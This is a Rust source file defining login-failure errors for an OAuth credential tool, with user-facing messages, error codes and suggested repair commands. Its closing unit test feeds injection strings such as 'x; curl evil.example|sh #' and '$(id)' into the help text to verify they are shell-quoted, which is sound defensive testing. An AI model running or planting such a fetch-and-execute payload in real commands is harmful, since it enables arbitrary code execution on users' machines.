//! Why nobody is logged in, by who must act: the person, who writes the configuration, the provider, or nobody but time.

use crate::credential::oauth::LoginFailed;
use crate::model::AccountId;
use crate::vault::Refused;

/// By whose word somebody is who an account is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Meant {
    /// `expect` of the configuration, which no flag takes back.
    Configured,
    /// `--expect` of this login.
    Asked,
    /// Who logged in the last time.
    Earlier,
}

/// A login that did not happen. No message holds a code, a state or a token.
#[derive(Debug, Clone, thiserror::Error)]
pub enum NotLoggedIn {
    /// The provider, its metadata or the person there.
    #[error(transparent)]
    Flow(#[from] LoginFailed),
    /// There is no such account.
    #[error("there is no account {0} any more")]
    Gone(AccountId),
    /// Nothing to log in with.
    #[error("{account} does not log in: {why}")]
    NoLogin {
        /// The account.
        account: AccountId,
        /// What proves it instead.
        why: &'static str,
    },
    /// What it needs, it gets in its environment.
    #[error(
        "{0} needs no login: it is a local process, and proves itself with what is in its environment"
    )]
    Process(AccountId),
    /// Somebody else logged in than was meant.
    #[error("you logged in as {was}, {account} is {is}")]
    WrongIdentity {
        /// The account.
        account: AccountId,
        /// Who came.
        was: String,
        /// Who should have come.
        is: String,
        /// By whose word.
        by: Meant,
    },
    /// Somebody is expected, and the provider does not say who came.
    #[error("who logged in could not be learnt, and {account} expects {is}")]
    UnknownIdentity {
        /// The account.
        account: AccountId,
        /// Who should have come.
        is: String,
    },
    /// The same person has another account of this server already.
    #[error("you logged in as {was}, who is {other} already; {account} would be the same")]
    SameIdentity {
        /// The account.
        account: AccountId,
        /// Who came.
        was: String,
        /// The account that is this person.
        other: AccountId,
    },
    /// Nobody came back in time.
    #[error("nobody logged in within {minutes} min")]
    Expired {
        /// How long it was good for.
        minutes: u64,
    },
    /// A person took it back.
    #[error("the login was cancelled")]
    Cancelled,
    /// Another one began in its place.
    #[error("another login of the account took the place of this one")]
    Replaced,
    /// Too many wait.
    #[error("{0} logins are under way already")]
    TooMany(usize),
    /// The port that the provider sends browsers back to.
    #[error("port {port} is taken by another program, and the provider sends browsers back to it")]
    PortTaken {
        /// The port.
        port: u16,
    },
    /// Not one port to listen on.
    #[error("none of the ports {first} to {last} is free")]
    NoPort {
        /// The first that was tried.
        first: u16,
        /// The last.
        last: u16,
    },
    /// The system does not let us listen.
    #[error("nothing can listen for the browser: {0}")]
    NoListener(String),
    /// There is no login of this id, or not any more.
    #[error("there is no login `{0}`")]
    Unknown(String),
    /// What was pasted is not where the browser ended, or not all of it. The login goes on.
    #[error("this is not the whole answer to the login: {what}")]
    NotTheAddress {
        /// What it is instead, or what is lacking.
        what: String,
        /// How the address begins that is wanted.
        wanted: Option<String>,
    },
    /// What was pasted belongs elsewhere. The login goes on.
    #[error("this address belongs to another login, or to none")]
    ForeignState,
    /// What was pasted answers another login that waits. Both go on.
    #[error("this address belongs to another login, that of {account}")]
    OfAnother {
        /// Whose login it answers.
        account: AccountId,
        /// Which that is.
        id: String,
    },
    /// What was pasted answers a login that is over. This one goes on.
    #[error("this address belongs to another login of {0}, which is over")]
    OfEarlier(AccountId),
    /// What was pasted answers this login, which takes no answer any more.
    #[error("this login is over")]
    Over,
    /// It was answered already.
    #[error("this login was answered already")]
    Answered,
    /// What was granted could not be kept.
    #[error("the login succeeded and cannot be kept: {0}")]
    NotKept(String),
    /// The disk does not let go of what was granted.
    #[error("it is logged out, and would be logged in again after a restart: {0}")]
    NotForgotten(String),
    /// The vault is closed: what was granted could not be kept.
    #[error("the vault is sealed: {0}")]
    Sealed(String),
    /// Janus stops.
    #[error("Janus is stopping")]
    Stopping,
}

impl NotLoggedIn {
    /// The word for it.
    pub fn code(&self) -> &'static str {
        match self {
            Self::Flow(failed) => failed.code(),
            Self::Gone(_) => "unknown_account",
            Self::NoLogin { .. } | Self::Process(_) => "no_login",
            Self::WrongIdentity { .. }
            | Self::UnknownIdentity { .. }
            | Self::SameIdentity { .. } => "wrong_identity",
            Self::Expired { .. } | Self::Over => "login_expired",
            Self::Cancelled | Self::Replaced => "declined",
            Self::TooMany(_)
            | Self::PortTaken { .. }
            | Self::NoPort { .. }
            | Self::NoListener(_)
            | Self::NotKept(_)
            | Self::NotForgotten(_) => "unavailable",
            Self::Stopping => "stopping",
            Self::Unknown(_) => "login_unknown",
            Self::NotTheAddress { .. } => "not_the_answer",
            Self::ForeignState | Self::OfAnother { .. } | Self::OfEarlier(_) | Self::Answered => {
                "foreign_state"
            }
            Self::Sealed(_) => "sealed",
        }
    }

    /// The commands that mend it, at most three.
    pub fn help(&self, account: &AccountId) -> Vec<String> {
        let one = |help: String| vec![help];
        match self {
            Self::Flow(failed) => failed.help(account),
            Self::Gone(_) => one("janus account list".to_owned()),
            Self::NoLogin { .. } => one(format!("janus account verify {account}")),
            Self::Process(_) => vec![
                format!("try whether it works:  janus account verify {account}"),
                format!(
                    "if it wants a token, write at {}: env: {{ NAME: vault:{} }}    # then: janus secret set {}",
                    account.server(),
                    account.server(),
                    account.server()
                ),
            ],
            Self::WrongIdentity { by, was, .. } => vec![
                in_private(account),
                match by {
                    Meant::Configured => {
                        format!(
                            "if {was} is right, correct `auth.oauth.expect` of {account} in the configuration"
                        )
                    }
                    Meant::Asked => {
                        // Whoever it is chose that name: in a shell it is one word, and no option.
                        let was = shlex::try_quote(was).unwrap_or_default();
                        format!("if that is right:  janus login {account} --expect={was}")
                    }
                    Meant::Earlier => format!(
                        "if somebody else is meant from now on:  janus login {account} --replace"
                    ),
                },
            ],
            Self::UnknownIdentity { .. } => vec![
                "leave out `expect` to use it unverified:  auth.oauth.expect, or --expect"
                    .to_owned(),
                "or say how it is learnt:  auth.oauth.whoami".to_owned(),
            ],
            Self::SameIdentity { .. } => vec![
                in_private(account),
                format!("if the same person is meant:  janus login {account} --same-identity"),
            ],
            Self::Expired { .. } | Self::Over | Self::Cancelled | Self::Replaced => {
                one(format!("janus login {account}"))
            }
            Self::TooMany(_) | Self::Unknown(_) => {
                one("janus status        # which wait".to_owned())
            }
            Self::PortTaken { .. } => vec![
                "end the program that has it, then log in again".to_owned(),
                "or name another that the provider knows:  auth.oauth.callback_port".to_owned(),
            ],
            Self::NoPort { .. } => one("auth.oauth.callback_port names another".to_owned()),
            Self::NotTheAddress { wanted, .. } => one(match wanted {
                Some(wanted) => format!(
                    "paste the whole address on which the browser ends; it begins with {wanted}?"
                ),
                None => "nothing is pasted here: the login goes on at the other device".to_owned(),
            }),
            Self::ForeignState => {
                one("paste the address on which the browser of this very login ended".to_owned())
            }
            Self::OfAnother { id, .. } => one(format!(
                "hand it over there:  janus login --paste --wait {id}"
            )),
            Self::OfEarlier(_) => {
                one("open the newest link, and paste the address on which that ends".to_owned())
            }
            Self::NotForgotten(_) => one(format!(
                "when the disk takes it again:  janus logout {account}"
            )),
            Self::Sealed(_) | Self::NotKept(_) => one("janus vault status".to_owned()),
            Self::Stopping => one(format!("when it runs again:  janus login {account}")),
            Self::NoListener(_) | Self::Answered => Vec::new(),
        }
    }
}

/// How somebody else logs in than the browser knows.
fn in_private(account: &AccountId) -> String {
    format!(
        "open the link in a private window, or in another browser profile:  janus login {account} --no-browser"
    )
}

impl From<Refused> for NotLoggedIn {
    fn from(refused: Refused) -> Self {
        match refused {
            Refused::Sealed(why) => Self::Sealed(why.to_string()),
            other => Self::NotKept(other.to_string()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{AccountName, ServerName};

    #[test]
    fn a_name_that_somebody_chose_is_one_word_of_the_line_to_copy() {
        let account = AccountId::new(
            ServerName::new("s").unwrap(),
            AccountName::new("a").unwrap(),
        );
        for was in [
            "x; curl evil.example|sh #",
            "$(id)",
            "--replace",
            "ana, workspace A",
            "it's",
        ] {
            let wrong = NotLoggedIn::WrongIdentity {
                account: account.clone(),
                was: was.to_owned(),
                is: "ben".to_owned(),
                by: Meant::Asked,
            };
            let help = wrong.help(&account);
            let (_, line) = help[1].split_once(":  ").unwrap();
            let words = shlex::split(line).unwrap();
            assert_eq!(words[..3], ["janus", "login", "s/a"]);
            assert_eq!(words[3..], [format!("--expect={was}")]);
        }
    }
}
